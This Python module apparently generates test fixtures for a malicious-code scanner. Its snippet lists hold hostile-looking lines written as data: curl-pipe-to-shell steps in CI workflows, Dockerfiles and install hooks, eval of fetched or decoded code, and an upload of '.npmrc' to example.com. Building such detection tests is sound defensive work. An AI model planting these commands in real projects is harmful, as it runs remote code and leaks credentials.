"""A synthesized corpus of source files for checks: the text of ``documents`` and after it one inert snippet.

The driver's tables hold no source code, so each document gets a path and a last line by its id. The SQL below is
read alike by Spark and by other engines (no backslashes, no casts), so both sides of a check see the same files. All signal
in it is made up; hosts are example.com.
"""

from __future__ import annotations

import uuid
from collections.abc import Callable

from pyspark.sql import DataFrame, SparkSession

_BLOB = "Zm9vYmFyYmF6cXV4cXV1eHF1dXV4ZG9nY2F0bW91c2VlbGVwaGFudHJoaW5vY2Vyb3NoaXBwb1BPVEFNVVNYWVo5ODc2NTQzMjEw"
_TABLE = ", ".join(f'"cGF5bG9hZC1zdHViL{c}0tLS0="' for c in "ABCDEFGHIJKLMNOPQRST")

#: (prefix of the path, rest of the path, last line); near misses stand beside what must be found.
SNIPPETS = [
    ("src/d", ".js", "eval(atob(blob));"), ("src/d", ".js", 'eval("1 + 1");'), ("src/d", ".js", "function go(s) { eval(s); }"), ("src/d", ".mjs", "const code = atob(part); run(code);"),
    ("src/d", ".js", "eval(await (await fetch(url)).text());"), ("src/d", ".ts", f"const t = [{_TABLE}]; eval(atob(t[0]));"), ("src/d", ".ts", f"const t = [{_TABLE}];"), ("src/d", ".js", 'const fs = require("fs");'),
    ("src/d", ".js", "const m = require(name);"), ("src/d", ".py", "exec(base64.b64decode(blob))"), ("src/d", ".py", "obj = pickle.loads(blob)"), ("src/d", ".py", "def pickle.loads(blob):"),
    ("src/d", ".py", 'obj = pickle.loads("x")'), ("src/d", ".py", 'os.system(f"ls {name}")'), ("src/d", ".py", 'os.system("ls")'), ("src/d", ".py", "mod = importlib.import_module(name)"),
    ("src/d", ".py", 'requests.post("https://example.com/c", data=open(".npmrc"))'), ("src/d", ".rb", "Marshal.load(io)"), ("src/d", ".php", "unserialize($x);"), ("src/d", ".sh", 'eval "$(curl -s $URL)"'),
    ("src/d", ".txt", f'key = "{_BLOB}"'), ("src/d", ".txt", 'key = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"'), ("src/d", ".go", "var pаyload = 1"), ("src/d", ".go", "var абв = 1"),
    ("src/d", ".py", "access = ‮user"), ("ci/d", "/.github/workflows/b.yml", "run: curl https://example.com/i | bash"), ("ci/d", "/.github/workflows/b.yml", "run: curl -o i https://example.com/i"),
    ("img/d", "/Dockerfile", "RUN curl https://example.com/i | sh"), ("img/d", "/Dockerfile.dev", "RUN apt-get install curl"), ("rs/d", "/build.rs", 'let b = reqwest::get("https://example.com");'),
    ("rs/d", "/build.rs", 'println!("cargo:rerun");'), ("pl/d", "/Makefile.PL", "system(q(id));"), ("pl/d", "/Makefile.PL", "use strict;"), ("py/d", "/setup.py", "os.system(q)"), ("py/d", "/setup.py", "    os.system(q)"),
    ("src/d", ".js", "eval(s); // lanthorn-disable-line"), ("src/d", ".js", "eval(s); // lanthorn-disable-line obf.dynamic-exec-with-non-literal"), ("src/d", ".js", "eval(s); // lanthorn-disable-line obf.other"),
    ("vendor/d", ".js", "eval(s);"), ("src/d", ".js", 'const c = child_process.exec("ls " + name);'), ("src/d", ".kt", "val v = engine.eval(code)"),
    ("src/d", ".cjs", 'const c2 = "slack.com"; subtle; fs.writeFileSync(p, b); fs.chmodSync(p, 493); child_process;'), ("src/d", ".cjs", "fs.writeFileSync(p, b); fs.chmodSync(p, 493);"),
    ("src/d", ".mjs", "const blob = atob(part); eval(blob);"), ("src/d", ".mjs", "const body = fetch(url); eval(body);"),
]
#: Manifests replace the document's text, as some must parse.
MANIFESTS = [
    ("pkg/d", "/package.json", '{"scripts": {"postinstall": "node x.js", "test": "curl https://example.com | sh"}}'), ("pkg/d", "/package.json", '{"scripts": {"preinstall": "curl https://example.com/i | sh"}}'),
    ("php/d", "/composer.json", '{"scripts": {"post-install-cmd": ["php x.php", "curl https://example.com/i | sh"], "post-update-cmd": "php y.php", "test": "phpunit"}}'),
    ("gem/d", "/a.gemspec", 'spec.extensions = ["ext/a/extconf.rb"]'), ("gem/d", "/a.gemspec", 'spec.files = ["lib/a.rb"]'), ("lua/d", "/a-1.rockspec", 'build = { type = "command", build_command = "curl https://example.com/i | sh" }'),
    ("lua/d", "/a-1.rockspec", 'build = { type = "builtin" }'), ("nu/d", "/a.nuspec", '<files><file src="tools/install.ps1" target="tools" /></files>'), ("nu/d", "/a.nuspec", '<files><file src="lib/a.dll" target="lib" /></files>'),
]


def corpus_sql(table: str = "documents") -> str:
    """SELECT path, source, one row for each document."""
    quoted = lambda s: "'" + s.replace("'", "''") + "'"
    rows = [f"({i}, {quoted(a)}, {quoted(b)}, {quoted(text)}, {'false' if i >= len(SNIPPETS) else 'true'})" for i, (a, b, text) in enumerate([*SNIPPETS, *MANIFESTS])]
    return f"""SELECT concat(s.a, d.doc_id, s.b) AS path, CASE WHEN s.after THEN concat(d.text, chr(10), s.line, chr(10)) ELSE s.line END AS source
    FROM {table} AS d JOIN (VALUES {", ".join(rows)}) AS s(k, a, b, line, after) ON d.doc_id % {len(rows)} = s.k"""


def _made(spark: SparkSession, sf_dir: str, sql: Callable[[str], str]) -> DataFrame:
    view = f"documents_{uuid.uuid4().hex}"
    spark.read.parquet(f"{sf_dir}/documents.parquet").createTempView(view)
    try:
        return spark.sql(sql(view))
    finally:
        spark.catalog.dropTempView(view)


def corpus(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _made(spark, sf_dir, corpus_sql)


def diffs(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _made(spark, sf_dir, diffs_sql)


def diffs_sql(table: str = "documents") -> str:
    """SELECT doc_id, diff: a diff of one file for each document with a text, which gains the text's lines after one that stays, and one line further on."""
    name = "concat('src/d', doc_id, '.txt')"
    mode = "CASE doc_id % 3 WHEN 0 THEN concat('deleted file mode 100644', chr(10)) WHEN 1 THEN concat('new file mode 100644', chr(10)) ELSE '' END"
    head = f"concat('diff --git a/', {name}, ' b/', {name}, chr(10), {mode}, '--- a/', {name}, chr(10), '+++ b/', {name}, chr(10))"
    first = "concat('@@ -1,1 +1,9 @@', chr(10), ' stays', chr(10), '+', replace(text, chr(10), concat(chr(10), '+')), chr(10))"
    return f"SELECT doc_id, concat({head}, {first}, '@@ -10,1 +9000000,1 @@', chr(10), '-old', chr(10), '+new', chr(10)) AS diff FROM {table} WHERE text IS NOT NULL"
